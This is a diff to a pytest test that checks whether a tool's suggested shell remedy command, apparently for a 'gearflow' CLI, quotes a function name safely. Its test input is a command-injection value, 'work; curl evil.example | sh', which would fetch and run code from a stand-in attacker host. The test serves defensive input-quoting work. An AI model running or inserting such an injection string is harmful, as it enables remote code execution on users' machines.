@@ -163,7 +163,8 @@ def test_functions_whose_jobs_wait(counts: dict[str, Any], severity: str, text: 
 @pytest.mark.parametrize("counts", [{}, {"paused": True}, {"workers": 1, "waiting": (0, 0, 0), "dead": 3}])
 def test_a_command_that_helps_can_be_pasted_into_a_shell(counts: dict[str, Any]) -> None:
     name = "work; curl evil.example | sh"
-    shown = FunctionMetrics(**{"function": name, "waiting": (0, 5, 0), "oldest": 9.0, **counts})
+    values: dict[str, Any] = {"waiting": (0, 5, 0), "oldest": 9.0, **counts}
+    shown = FunctionMetrics(function=name, **values)
     (finding,) = found(view(functions=[shown]))
     command = finding.remedy[finding.remedy.index("gearflow ") :]
     assert name in shlex.split(command)
